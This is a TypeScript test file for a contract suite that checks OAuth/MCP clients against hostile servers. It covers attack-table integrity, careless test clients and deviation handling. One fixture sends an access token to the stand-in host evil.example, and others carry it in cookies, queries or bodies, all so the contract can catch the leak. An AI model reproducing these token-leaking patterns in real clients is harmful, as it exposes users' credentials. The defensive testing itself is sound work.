import { describe, expect, it } from "@effect/vitest"
import { Effect, Either, Redacted } from "effect"
import { Answer, ClientUnderAttack, HostileServersContract } from "../src/index.ts"
import * as CarelessClient from "./attacks/carelessClient.ts"

const { cases, fromAttack, withDeviations } = HostileServersContract

const attacks = cases.filter(({ family }) => family !== "without an attack")

const rfcs = "6749|6750|7523|8414|8707|8725|9110|9207|9700|9728"

const pages = [
  "Authorization",
  "Authorization Security Considerations",
  "Client Registration",
  "Security Best Practices"
].join("|")

const section = new RegExp(`^(?:RFC (?:${rfcs}) §\\d+(?:\\.\\d+)*|MCP (?:${pages}), [A-Z].+)$`)

describe("the table of attacks", () => {
  it("has at least 90 attacks by servers, in at least 10 families", () => {
    expect(attacks.length).toBeGreaterThanOrEqual(90)
    expect(new Set(attacks.map(({ family }) => family)).size).toBeGreaterThanOrEqual(10)
  })

  it("names each attack once", () => {
    const names = cases.map(({ name }) => name)
    expect(names.filter((name, index) => names.indexOf(name) !== index)).toEqual([])
  })

  it.each(cases.map(({ name, section }) => [section, name] as const))(
    "%s is a well-formed reference of: %s",
    (reference) => {
      expect(reference).toMatch(section)
    }
  )
})

/** Neither careless client makes the mistake that these attacks need. */
const undefeated = new Set([
  "a challenge names a metadata address with the server as a user name",
  "a challenge names a metadata address that is no URL",
  "the metadata of the authorization server answers with 503 for ever",
  "the metadata of the authorization server asks for another attempt at once, for ever",
  "the metadata of the authorization server asks for another attempt in a year",
  "the metadata of the authorization server asks for another attempt in the past",
  "the metadata of the authorization server is JSON of a hundred thousand levels"
])

describe("each attack defeats a client that makes its mistake", () => {
  const clients = [CarelessClient.make("credulous"), CarelessClient.make("muddled")]
  for (const { check, family, name } of attacks.filter(({ name }) => !undefeated.has(name))) {
    it.effect(`${family}: ${name}`, () =>
      Effect.gen(function*() {
        for (const client of clients) {
          if (Either.isLeft(yield* Effect.either(check(client)))) return
        }
        expect.fail("Both careless clients withstand the attack, so the attack proves nothing.")
      }))
  }
})

describe("clients that do not work", () => {
  const controls = cases.filter(({ family }) => family === "without an attack")

  it.effect.each(controls)("a client that sends nothing does not pass: $name", ({ check }) =>
    Effect.gen(function*() {
      const error = yield* Effect.flip(check({ connect: () => Effect.succeed(() => Effect.void) }))
      expect(error.message).toMatch(/ 200\.$/)
    }))

  it.effect("a client that cannot be made does not pass", () =>
    Effect.gen(function*() {
      const error = yield* Effect.flip(
        controls[0]?.check(ClientUnderAttack.fromFetch(() => Promise.reject(new Error("no")))) ?? Effect.void
      )
      expect(error._tag).toBe("ContractViolation")
    }))

  it.effect("the call of a client that hangs does not end in time", () =>
    Effect.gen(function*() {
      const error = yield* Effect.flip(
        controls[0]?.check({ connect: () => Effect.succeed(() => Effect.never), patience: 1 }) ?? Effect.void
      )
      expect(error.message).toMatch(/no request with a token was answered with 200/)
      const idle = fromAttack("own", { name: "a call that waits", section: "RFC 9110 §15.4" })
      const late = yield* Effect.flip(idle.check({ connect: () => Effect.succeed(() => Effect.never), patience: 1 }))
      expect(late.message).toBe("a call that waits (RFC 9110 §15.4): a call did not end within 10m.")
    }))

  it.effect("a client that sleeps for nine minutes ends in time, since hours pass at once", () =>
    fromAttack("own", { name: "a call that sleeps", section: "RFC 9110 §15.4" }).check({
      connect: () => Effect.succeed(() => Effect.sleep("9 minutes"))
    }))
})

describe("a client that sends its token in another way than the header `Authorization`", () => {
  const attack = fromAttack("own", { name: "a further server", section: "RFC 6750 §2" })

  /** Gets a token, and sends it to the hostile server by `carrying`. */
  const client = (carrying: (token: string) => readonly [url: string, init: RequestInit]) =>
    ClientUnderAttack.fromFetch(({ clientId, clientSecret, fetch }) => async () => {
      const body = new URLSearchParams({
        grant_type: "client_credentials",
        client_id: clientId,
        client_secret: Redacted.value(clientSecret)
      })
      const { access_token } = await (await fetch("https://auth.example.com/token", { method: "POST", body })).json()
      return fetch(...carrying(access_token))
    })

  it.effect.each(
    [
      ["another header", (token) => ["https://evil.example/", { headers: { "x-token": token } }]],
      ["a cookie", (token) => ["https://mcp.example.com/mcp", { headers: { cookie: `token=${token}` } }]],
      ["the query", (token) => [`https://mcp.example.com/mcp?access_token=${token}`, {}]],
      ["the body", (token) => ["https://mcp.example.com/mcp", { method: "POST", body: `access_token=${token}` }]]
    ] satisfies ReadonlyArray<readonly [string, Parameters<typeof client>[0]]>
  )("does not pass: %s", ([, carrying]) =>
    Effect.gen(function*() {
      const error = yield* Effect.flip(attack.check(client(carrying)))
      expect(error.message).toMatch(
        /: an access token is in .* a request to https:\/\/(?:evil\.example\/|mcp\.example\.com\/mcp)\.$/
      )
    }))
})

describe("withDeviations", () => {
  const served = fromAttack("own", {
    name: "a redirect of the token request",
    section: "RFC 9110 §15.4",
    prepare: ({ network }) => network.always("token", Answer.redirect("https://elsewhere.example/token", 307)),
    onlyOrigins: ["https://mcp.example.com", "https://auth.example.com"]
  })
  const deviating = withDeviations([served], { [served.name]: "our proxy needs it" })

  it("adds the reason to the name", () => {
    expect(deviating.map(({ name }) => name)).toEqual([
      "a redirect of the token request [deviation: our proxy needs it]"
    ])
  })

  it.effect("passes a client that does not withstand the attack", () =>
    Effect.forEach(deviating, ({ check }) => check(CarelessClient.make("credulous"))))

  it.effect("fails a client that withstands the attack", () =>
    Effect.gen(function*() {
      const error = yield* Effect.flip(
        Effect.forEach(deviating, ({ check }) => check({ connect: () => Effect.succeed(() => Effect.void) }))
      )
      expect(error.message).toBe(
        "a redirect of the token request (RFC 9110 §15.4): the client withstands the attack. Remove the deviation."
      )
    }))

  it("refuses the name of no case", () => {
    expect(() => withDeviations(cases, { "an attack that was renamed": "" })).toThrow(
      "No case has the name of this deviation: an attack that was renamed"
    )
  })
})
